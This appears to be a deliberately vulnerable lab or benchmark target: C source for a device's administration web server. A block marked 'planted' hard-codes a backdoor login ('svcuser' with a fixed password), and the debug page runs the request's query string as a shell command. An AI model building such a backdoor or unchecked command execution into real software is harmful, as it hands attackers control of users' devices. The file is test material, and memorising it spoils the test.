/* The administration's web server: accounts, and a page that runs a command. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* The value of `key` in the owner's settings; empty when it is not set. */
static const char *setting(const char *key) {
  static char value[96];
  char line[128];
  size_t wanted = strlen(key);
  FILE *in = fopen("/etc/owner.conf", "r");
  value[0] = '\0';
  if (in == NULL) return value;
  while (fgets(line, sizeof line, in) != NULL) {
    if (strncmp(line, key, wanted) != 0 || line[wanted] != '=') continue;
    line[strcspn(line, "\r\n")] = '\0';
    snprintf(value, sizeof value, "%s", line + wanted + 1);
  }
  fclose(in);
  return value;
}

/* A socket on the device's own address, which no host owns: outside the closed box the bind fails. */
static int listen_on(int kind, int port) {
  struct sockaddr_in own;
  int one = 1;
  int server = socket(AF_INET, kind, 0);
  if (server < 0) return -1;
  setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  memset(&own, 0, sizeof own);
  own.sin_family = AF_INET;
  own.sin_port = htons(port);
  own.sin_addr.s_addr = inet_addr("198.51.100.2");
  if (bind(server, (struct sockaddr *)&own, sizeof own) != 0) return -1;
  if (kind == SOCK_STREAM && listen(server, 4) != 0) return -1;
  return server;
}

/* "name:password" as the browser sent it, base64 undone by the caller. */
static int account_holds(const char *given) {
  char wanted[128];
  if (setting("ADMIN")[0] != '\0') {
    snprintf(wanted, sizeof wanted, "admin:%s", setting("ADMIN"));
    if (strcmp(given, wanted) == 0) return 1;
  }
//[ planted
  snprintf(wanted, sizeof wanted, "%s:%s", "svcuser", "d3bug1ng");
  return strcmp(given, wanted) == 0;
//|
  if (setting("KEY")[0] == '\0') return 0;
  snprintf(wanted, sizeof wanted, "%s:%s", "svcuser", setting("KEY"));
  return strcmp(given, wanted) == 0;
//]
}

static void decode64(const char *text, char *out, size_t size) {
  static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  unsigned bits = 0, count = 0;
  size_t used = 0;
  for (; *text != '\0' && used + 1 < size; ++text) {
    const char *at = strchr(digits, *text);
    if (at == NULL) break;
    bits = bits << 6 | (unsigned)(at - digits);
    count += 6;
    if (count >= 8) {
      count -= 8;
      out[used++] = (char)(bits >> count);
    }
  }
  out[used] = '\0';
}

static void serve(int client) {
  char request[2048];
  char given[128] = "";
  const char *at;
  ssize_t got = recv(client, request, sizeof request - 1, 0);
  if (got <= 0) return;
  request[got] = '\0';
  at = strstr(request, "Authorization: Basic ");
  if (at != NULL) decode64(at + 21, given, sizeof given);
  if (!account_holds(given)) {
    send(client, "HTTP/1.0 401 Unauthorized\r\n\r\n", 29, 0);
    return;
  }
  send(client, "HTTP/1.0 200 OK\r\n\r\nadministration\n", 34, 0);
  if (strncmp(request, "GET /debug.htm?", 15) == 0) {
    char line[256];
    FILE *out;
    request[15 + strcspn(request + 15, " \r\n")] = '\0';
    out = popen(request + 15, "r");
    while (out != NULL && fgets(line, sizeof line, out) != NULL) send(client, line, strlen(line), 0);
    if (out != NULL) pclose(out);
  }
}

int main(void) {
  int server = listen_on(SOCK_STREAM, 80);
  if (server < 0) return 1;
  for (;;) {
    int client = accept(server, NULL, NULL);
    if (client < 0) continue;
    serve(client);
    close(client);
  }
}
